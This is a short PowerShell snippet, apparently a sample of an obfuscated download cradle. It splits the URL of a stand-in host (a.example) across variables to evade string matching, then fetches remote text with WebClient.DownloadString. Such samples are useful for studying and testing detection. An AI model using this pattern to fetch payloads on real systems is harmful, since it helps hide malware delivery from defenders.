Set-Variable zz 'http://a.exam';Set-Item variable:yy 'ple/p/x.txt'
$wc = New-Object System.Net.WebClient
$wc.DownloadString(((Get-Variable zz).Value+(gci variable:yy).value))
